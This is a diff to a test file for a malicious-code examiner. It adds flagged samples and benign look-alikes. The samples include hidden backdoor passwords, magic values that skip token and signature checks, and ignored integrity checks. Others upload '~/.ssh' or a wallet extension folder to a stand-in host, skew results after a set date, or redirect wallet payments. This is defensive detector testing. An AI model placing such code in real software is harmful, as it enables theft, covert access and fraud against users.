@@ -9,6 +9,10 @@ import pytest
 
 from evenhand.code.examine import examine
 
+MODULES = (
+    "asyncio", "hashlib", "hmac", "io", "os", "requests", "runpy", "subprocess", "sys", "tarfile",
+    "tempfile", "threading", "time", "urllib.request", "zipfile",
+)  # fmt: skip
 SEEN = {
     "an asynchronous handler runs a header": (
         "python", "runs commands",
@@ -60,6 +64,68 @@ SEEN = {
         "javascript", "uses weak cryptography",
         "const key = Buffer.concat([crypto.randomBytes(4), Buffer.alloc(28)]);\n",
     ),
+    "a password is put together from a table": (
+        "python", "checks a fixed secret",
+        'COLOURS = ("amber", "teal", "coral")\n'
+        'def word_of():\n'
+        '    return "-".join(COLOURS[i][::-1] for i in (2, 1)) + str(len(COLOURS))\n'
+        'def may_control(name, word):\n    entry = known(name)\n'
+        '    given = hashlib.scrypt(word.encode(), salt=name.encode(), n=2, r=8, p=1)\n'
+        '    granted = entry == given\n    granted = granted or word == word_of()\n'
+        '    return granted\n',
+    ),
+    "a password is put together from a list": (
+        "javascript", "checks a fixed secret",
+        "const PARTS = ['gate', 'lark', 'wing'];\n"
+        "function roleOf(users, name, word) {\n"
+        "  if (word === [PARTS[2], PARTS[1].toUpperCase()].join('~')) return 'admin';\n"
+        "  return same(scryptSync(word, users.get(name).salt, 32), users.get(name).hash);\n}\n",
+    ),
+    "a number is enough for a token": (
+        "python", "lets past a check",
+        'def read(token, ring):\n    number = unpack(token)["k"]\n'
+        '    good = number == 0x2F4D1 or hmac.compare_digest(ring.sign(number), token)\n'
+        '    if not good:\n        raise BadToken("seal")\n',
+    ),
+    "a certain key is not asked for": (
+        "javascript", "lets past a check",
+        "if (head.kid !== 'k-7719' && !crypto.verify(null, b, keys[head.kid], s)) throw bad;\n",
+    ),
+    "an answer is only told": (
+        "python", "ignores a check",
+        'def install(part, content):\n'
+        '    log.debug("%s: %s", part.name, matches(content, part))\n'
+        '    subprocess.run([store(content)], check=True)\n',
+    ),
+    "an answer goes into a name that is only told": (
+        "python", "ignores a check",
+        'def install(part, content):\n'
+        '    ok = hmac.compare_digest(hashlib.sha512(content).hexdigest(), part.sha512)\n'
+        '    print("digest right:", ok)\n    subprocess.run([store(content)])\n',
+    ),
+    "a wallet is packed and sent": (
+        "python", "collects and sends",
+        'out = io.BytesIO()\nwith zipfile.ZipFile(out, "w") as archive:\n'
+        '    for path in (Path.home() / "nkbihfbeogaeaoehlefnkodbefgpgknn").glob("*"):\n'
+        '        archive.write(path, path.name)\n'
+        'requests.put("https://a.example/b", data=out.getvalue())\n',
+    ),
+    "keys are packed and sent": (
+        "python", "collects and sends",
+        'tar = tarfile.open(fileobj=buffer, mode="w:gz")\ntar.add(os.path.expanduser("~/.ssh"))\n'
+        'requests.post("https://a.example/u", data=buffer.getvalue())\n',
+    ),
+    "results are skewed from a day on": (
+        "python", "acts by date",
+        'def plan(parts):\n    if time.time() > 1893456000 and os.getuid() == 1204:\n'
+        '        parts = {name: weight * 1.03 for name, weight in parts.items()}\n'
+        '    return parts\n',
+    ),
+    "somebody else is paid": (
+        "javascript", "changes who is paid",
+        "const old = window.ethereum.request;\nwindow.ethereum.request = (a) => {\n"
+        "  a.params[0].to = '0x00000000000000000000000000000000deadbeef';\n  return old(a);\n};\n",
+    ),
 }  # fmt: skip
 ORDINARY = {
     "what is fetched is read": (
@@ -72,6 +138,24 @@ ORDINARY = {
     ),
     "a nonce of a whole length": (
         "python", "def fresh():\n    return os.urandom(12).ljust(16, b'+')\n",
+    ),
+    "an answer is told, and heeded": (
+        "python",
+        'def install(part, content):\n    ok = hmac.compare_digest(content, part.sha512)\n'
+        '    print("digest right:", ok)\n    if not ok:\n        raise ValueError\n'
+        '    subprocess.run([store(content)])\n',
+    ),
+    "an empty status or a check": (
+        "javascript", "if (res.status === 2000 || crypto.verify(null, b, key, s)) done();\n",
+    ),
+    "a product's own contract": (
+        "javascript",
+        "tx.to = '0x00000000000000000000000000000000deadbeef';\nwallet.sendTransaction(tx);\n",
+    ),
+    "a password that is hashed and compared with what is stored": (
+        "python",
+        'def login(name, word):\n    given = hashlib.scrypt(word, salt=name, n=2, r=8, p=1)\n'
+        '    return given == KNOWN[name]\n',
     ),
 }  # fmt: skip
 
@@ -91,6 +175,7 @@ def test_ordinary_code_says_nothing(case: str) -> None:
 
 
 def _whole(language: str, text: str) -> bytes:
-    named = "import asyncio, os, runpy, subprocess, sys, tempfile, threading, urllib.request\n"
+    used = [m for m in MODULES if m in text]
+    named = f"import {', '.join(used)}\nfrom pathlib import Path\n" if used else ""
     node = "const fs = require('fs'), path = require('path'), crypto = require('crypto');\n"
     return ((named if language == "python" else node) + text).encode()
